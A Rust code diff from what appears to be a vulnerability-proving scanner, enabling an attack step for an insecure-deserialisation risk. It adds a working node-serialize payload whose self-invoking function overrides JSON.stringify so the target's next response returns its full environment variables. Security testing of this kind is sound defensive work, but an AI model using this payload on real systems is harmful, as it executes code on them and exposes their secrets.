@@ -2,10 +2,12 @@
 
 use crate::entry::Danger;
 use crate::flow::{self, Sinks};
-use crate::source;
+use crate::probe::{self, Probe};
+use crate::{Attack, source};
 use crate::{Profile, Proved, Reason, Risk};
+use model::attack::Outcome;
 use model::code::{Flow, SinkKind};
-use model::{App, Finding, Fix};
+use model::{App, Finding, Fix, Foothold, Target};
 
 /// The risk.
 pub const RISK: Risk = Risk {
@@ -13,7 +15,7 @@ pub const RISK: Risk = Risk {
     page: include_str!("risk.md"),
     profile: Profile::Default,
     check,
-    attack: Err("not written yet: the prover installs no package that deserialises code"),
+    attack: Ok(Attack { foothold: Foothold::Anyone, plant: probe::plant, run }),
     detections: &[],
     without: &[(Proved::Detected, Reason::NoLog)],
 };
@@ -59,4 +61,15 @@ fn fix(app: &App, flow: &Flow) -> Option<Fix> {
     let edit = source::replace_once(app, &flow.sink_at, old, new)?;
     // Callers that sent objects of a class are no longer understood; that is the point.
     Some(Fix { says: says.into(), safe: false, edits: vec![edit], then: None })
+}
+
+/// A function that is called while it is read (node-serialize): the next text that is made is an answer with the environment, and
+/// everything is as it was after that.
+const PAYLOADS: [&str; 1] = [concat!(
+    "{\"x\":\"_$$ND_FUNC$$_function(){var s=JSON.stringify;JSON.stringify=function(){JSON.stringify=s;",
+    "return s({statusCode:200,body:s(process.env)})}}()\"}"
+)];
+
+fn run(app: &App, findings: &[&Finding], target: &mut dyn Target, outcome: &mut Outcome) {
+    probe::run(app, findings, target, outcome, &Probe { takes, payloads: &PAYLOADS, shows: "AWS_LAMBDA_FUNCTION_NAME" });
 }
